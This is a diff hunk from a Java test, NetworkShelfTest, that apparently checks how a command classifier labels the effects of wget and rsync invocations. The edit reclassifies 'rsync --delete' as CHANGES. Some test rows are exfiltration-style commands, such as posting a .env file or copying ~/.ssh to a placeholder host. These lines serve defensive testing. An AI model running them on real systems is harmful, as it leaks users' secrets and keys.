@@ -77,7 +77,7 @@ class NetworkShelfTest {
           wget -o log --spider a.example    | FILES_ONLY WRITE:log CONNECT:GEThttp://a.example
           wget --post-file=.env a.example   | CHANGES READ:.env CONNECT:POSThttp://a.example WRITE:index.html
           rsync -a src/ dst/                | FILES_ONLY SEARCH:src/ WRITE:dst/
-          rsync -a --delete src/ dst/       | FILES_ONLY SEARCH:src/ WRITE:dst/ DELETE:dst/
+          rsync -a --delete src/ dst/       | CHANGES SEARCH:src/ WRITE:dst/ DELETE:dst/
           rsync -a ~/.ssh me@a.example:x    | CHANGES SEARCH:~/.ssh CONNECT:a.example:22
           rsync -a rsync://a.example/m x    | CHANGES CONNECT:a.example:873 WRITE:x
           rsync -a a.example::m x           | CHANGES CONNECT:a.example:873 WRITE:x
